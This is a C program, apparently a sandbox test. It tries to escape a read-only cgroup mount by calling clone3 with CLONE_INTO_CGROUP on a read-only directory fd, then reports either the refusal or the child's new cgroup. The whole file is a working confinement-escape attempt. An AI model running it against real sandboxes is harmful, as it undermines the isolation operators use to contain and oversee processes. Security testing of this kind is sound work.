/* The attack on a read-only cgroup filesystem: clone3(CLONE_INTO_CGROUP)
 * takes a cgroup as a directory fd, opened read-only (which a read-only
 * mount allows), and the kernel checks only the owner of that cgroup's
 * cgroup.procs, not the mount: the child would start in the cgroup named
 * by argv[1], out of the sandbox's. Prints "clone3: ERROR" when refused,
 * otherwise the child's cgroup line ("0::PATH"). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv) {
    struct clone_args args;
    int fd, status;
    long pid;
    if (argc != 2)
        return 2;
    fd = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0) {
        printf("open: %s\n", strerror(errno));
        return 0;
    }
    memset(&args, 0, sizeof args);
    args.flags = CLONE_INTO_CGROUP;
    args.exit_signal = SIGCHLD;
    args.cgroup = fd;
    pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid < 0) {
        printf("clone3: %s\n", strerror(errno));
        return 0;
    }
    if (pid == 0) {
        execlp("grep", "grep", "^0::", "/proc/self/cgroup", (char *)NULL);
        _exit(127);
    }
    if (waitpid(pid, &status, 0) != pid)
        return 1;
    return 0;
}
